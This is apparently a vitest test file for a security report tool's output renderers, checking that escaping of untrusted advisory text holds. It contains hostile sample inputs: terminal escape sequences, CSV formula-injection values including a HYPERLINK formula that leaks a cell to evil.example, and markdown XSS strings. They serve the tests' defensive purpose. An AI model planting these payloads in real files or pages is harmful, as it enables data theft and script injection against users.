import { describe, it, expect } from 'vitest';
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { renderers, REPORT_FORMATS, type RenderOptions } from '../../src/report/render/index.js';
import { csvField } from '../../src/report/render/csv.js';
import { markdownCell } from '../../src/report/render/markdown.js';
import { breakLongWords, fitWidths } from '../../src/report/render/table.js';
import { HOSTILE, sampleReport } from './report-data.js';

const GOLDEN = fileURLToPath(new URL('../../fixtures/report/golden/', import.meta.url));
const OPTS: RenderOptions = { color: false, columns: 120, toolVersion: '0.1.0' };

/** Compares with the golden file; UPDATE_GOLDEN=1 rewrites it (review the diff by eye). */
function golden(name: string, actual: string): void {
  const file = `${GOLDEN}${name}`;
  if (process.env.UPDATE_GOLDEN === '1' || !existsSync(file)) writeFileSync(file, actual);
  expect(actual).toBe(readFileSync(file, 'utf8'));
}

describe('renderers on fixed report data (golden files)', () => {
  it.each([
    ['table', 'table.txt', OPTS],
    ['table', 'table-by-maintainer.txt', { ...OPTS, by: 'maintainer' }],
    ['json', 'report.json', OPTS],
    ['csv', 'report.csv', OPTS],
    ['csv', 'by-package.csv', { ...OPTS, by: 'package' }],
    ['markdown', 'report.md', OPTS],
    ['sarif', 'report.sarif', OPTS],
  ] as const)('%s -> %s', (format, file, opts) => {
    golden(file, renderers[format](sampleReport(), opts));
  });

  it('registers one renderer per format', () => {
    expect(Object.keys(renderers).sort()).toEqual([...REPORT_FORMATS].sort());
  });
});

describe('table', () => {
  it('fits the terminal width, wrapping long cells, and ends with a totals line', () => {
    const out = renderers.table(sampleReport(), { ...OPTS, columns: 80 });
    const lines = out.trimEnd().split('\n');
    for (const l of lines.slice(0, -1)) expect([...l].length).toBeLessThanOrEqual(80);
    expect(lines.at(-1)).toBe('5 findings (status all) in 3 projects: 1 critical, 2 high, 1 medium, 1 low');
  });

  it('colours severities only when asked, and never passes terminal escapes from advisory text', () => {
    const data = sampleReport();
    data.findings[4]!.package = 'evil\x1b]0;title\x07\x1b[2Jpkg';
    expect(renderers.table(data, OPTS)).not.toContain('\x1b');
    const coloured = renderers.table(data, { ...OPTS, color: true });
    expect(coloured).toContain('\x1b[31m'); // HIGH in red
    expect(coloured).not.toContain('\x1b]0;');
    expect(coloured).not.toContain('\x1b[2J');
    expect(coloured).toContain('evilpkg');
  });

  it.each([
    [[['abc', 'defghij']], undefined, [5, 9]],
    [[['abc', 'x'.repeat(100)]], undefined, [5, 62]],
    [[['a'.repeat(20), 'b'.repeat(20)]], 30, [13, 14]],
    [[['a'.repeat(20), 'b'.repeat(20)]], 5, [6, 6]],
  ])('fitWidths(%j, %s) = %j', (rows, columns, widths) => {
    expect(fitWidths(rows, columns)).toEqual(widths);
  });

  it.each([
    ['short words stay', 5, 'short words stay'],
    ['abcdefghij', 4, 'abcd\nefgh\nij'],
    ['a github.com/x', 6, 'a github\n.com/x'],
  ])('breakLongWords(%j, %d) = %j', (text, width, expected) => {
    expect(breakLongWords(text, width)).toBe(expected);
  });

  it('says so when nothing matches', () => {
    const data = { ...sampleReport(), findings: [] };
    expect(renderers.table(data, OPTS)).toMatch(/^No findings match\.\n/);
  });
});

describe('csv', () => {
  it.each([
    ['plain', 'plain'],
    ['=1+1', "'=1+1"],
    ['+CVE-1', "'+CVE-1"],
    ['-2', "'-2"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\tx', "'\tx"],
    ['\rx', '"\'\rx"'],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    ['=HYPERLINK("x")', '"\'=HYPERLINK(""x"")"'],
    [-2, '-2'], // numbers we write ourselves are left alone
  ])('csvField(%j) = %j', (input, expected) => {
    expect(csvField(input)).toBe(expected);
  });

  it('rows end with CRLF and every hostile cell is neutralised', () => {
    const out = renderers.csv(sampleReport(), OPTS);
    expect(out.endsWith('\r\n')).toBe(true);
    const evil = out.split('\r\n').find((l) => l.includes('HYPERLINK'))!;
    expect(evil).toContain('"\'=HYPERLINK(""http://evil.example/?""&A1,""x"")"');
    expect(evil).toContain("'+CVE-2099-0001");
    expect(out).toContain('"\'-only in <b>tests</b>\n| not shipped"');
  });
});

describe('markdown', () => {
  it.each([
    ['a|b', 'a\\|b'],
    ['one\ntwo\r\nthree', 'one<br>two<br>three'],
    ['<img src=x onerror=alert(1)>', '&lt;img src=x onerror=alert(1)&gt;'],
    ['[x](javascript:alert(1))', '\\[x\\](javascript:alert(1))'],
    ['a_b*c`d', 'a\\_b\\*c\\`d'],
    ['&amp;', '&amp;amp;'],
  ])('markdownCell(%j) = %j', (input, expected) => {
    expect(markdownCell(input)).toBe(expected);
  });

  it('keeps one table row per finding whatever the text holds', () => {
    const out = renderers.markdown(sampleReport(), OPTS);
    const rows = out.split('\n').filter((l) => l.startsWith('| '));
    expect(rows).toHaveLength(2 + 5); // header, separator, findings
    for (const r of rows) expect(r.replace(/\\\|/g, '').split('|')).toHaveLength(9);
    expect(out).not.toContain('<img');
  });
});

describe('json', () => {
  it('has a schema version and the match --format json keys first, in order', () => {
    const doc = JSON.parse(renderers.json(sampleReport(), OPTS));
    expect(doc.schema_version).toBe(2);
    // the shared findingJson keys, in order
    expect(Object.keys(doc.findings[0]).slice(0, 20)).toEqual(['id', 'project', 'ecosystem', 'package', 'version', 'advisory_id', 'advisory_ids', 'aliases', 'severity', 'cvss_score', 'env_score', 'env_severity', 'fixed_version', 'status', 'status_note', 'first_seen', 'last_seen', 'fixed_at', 'targets', 'reason']);
    expect(doc.findings[4]).toMatchObject({ package: HOSTILE.package, status: 'accepted', acceptance: { reason: '-only in <b>tests</b>\n| not shipped' } });
  });
});
